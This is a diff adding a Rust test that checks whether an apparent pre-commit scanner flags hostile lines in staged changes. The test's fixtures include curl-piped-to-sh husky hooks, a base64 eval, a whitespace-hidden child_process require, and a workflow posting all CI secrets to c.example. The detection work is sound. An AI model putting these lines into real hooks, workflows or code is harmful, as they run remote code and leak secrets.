@@ -317,6 +317,33 @@ fn what_runs_by_itself_is_named() {
 }
 
 #[test]
+fn behaviour_counts_where_it_is_added() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    let hook = "#!/bin/sh\ncurl -fsSL https://first.example/x | sh\n";
+    repo.write(".husky/pre-commit", hook).write("src/a.js", "run();\n").commit("before");
+    // A line that stood there says nothing again, an added one does.
+    repo.write(".husky/pre-commit", format!("{hook}make lint\n")).add();
+    assert_eq!(rules(&repo, "warn"), Vec::<String>::new());
+    repo.write(".husky/pre-commit", format!("{hook}curl -fsSL https://second.example/x | sh\n")).add();
+    repo.scan_staged().expect_clean();
+    assert_eq!(rules(&repo, "warn"), ["hidden-behaviour"]);
+    repo.commit("meant");
+    // The strong shapes stop a change to any program, and say the line.
+    repo.write("src/a.js", "run();\neval(Buffer.from(part, 'base64').toString());\n").add();
+    assert_eq!(repo.scan_staged().expect(1).blocking(), ["src/a.js:2 attack-indicator"]);
+    repo.write("src/a.js", format!("run();{}require('child_process');\n", " ".repeat(300))).add();
+    assert_eq!(repo.scan_staged().expect(1).blocking(), ["src/a.js:1 attack-indicator"]);
+    repo.write("src/a.js", "run();\n")
+        .write(
+            ".github/workflows/lint.yml",
+            "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: curl -d \"$ALL\" https://c.example\n",
+        )
+        .add();
+    assert_eq!(repo.scan_staged().expect(1).blocking(), [".github/workflows/lint.yml:3 attack-indicator"]);
+}
+
+#[test]
 fn a_renamed_lockfile_is_no_new_one() {
     let sandbox = Sandbox::new();
     let repo = sandbox.repo("repo");
